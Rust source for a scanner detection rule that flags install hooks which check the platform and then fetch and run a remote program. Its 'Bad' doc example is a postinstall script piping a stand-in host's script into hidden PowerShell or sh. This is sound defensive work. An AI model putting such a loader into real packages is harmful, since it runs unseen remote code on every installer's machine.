//! # Each platform gets a program of its own from a host
//!
//! A test of the operating system decides which program is fetched and run, at install or import.
//!
//! ## Why it matters
//!
//! One loader serves every victim, and a scanner on another system sees nothing.
//!
//! ## Known benign uses
//!
//! Installers choose a build for the platform. They write a file that the package runs when called, and do not hand
//! a host's answer to a shell.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! const system = require("os").platform();
//! if (system === "win32") {
//!   execSync("powershell -w hidden -c \"iwr https://host.invalid/w.ps1 | iex\""); //~ here
//! } else {
//!   execSync("curl -s https://host.invalid/u.sh | sh"); //~ here
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const name = process.platform === "win32" ? "x.exe" : "x";
//! require("fs").copyFileSync(require("path").join(__dirname, "builds", process.platform, name), require("path").join(__dirname, name));
//! ```
//!
//! ## References
//!
//! - Elastic: Axios compromised, a payload for each platform (March 2026)

use stockade_facts::guard::GuardKind;
use stockade_facts::harm::HarmFact;

use crate::prelude::*;

/// Each platform gets a program of its own from a host.
pub struct PlatformDecidesDownload;

impl Rule for PlatformDecidesDownload {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "platform-decides-download",
            title: "Each platform gets a program of its own from a host",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1480",
            covers: &["evade-os-gate"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let runs_strange =
            |harm: &HarmFact| harm.does.starts_with("downloads") || harm.does.starts_with("runs");
        for harm in facts.harms().iter().filter(|harm| harm.trigger.runs_unasked() && runs_strange(harm)) {
            if let Some(condition) = facts.guard_before(GuardKind::Platform, harm.spot) {
                let harmful = (facts.locus(harm.spot), harm.does);
                found.path(harm.trigger, &[(condition, "looks at the platform"), harmful]);
            }
        }
    }
}
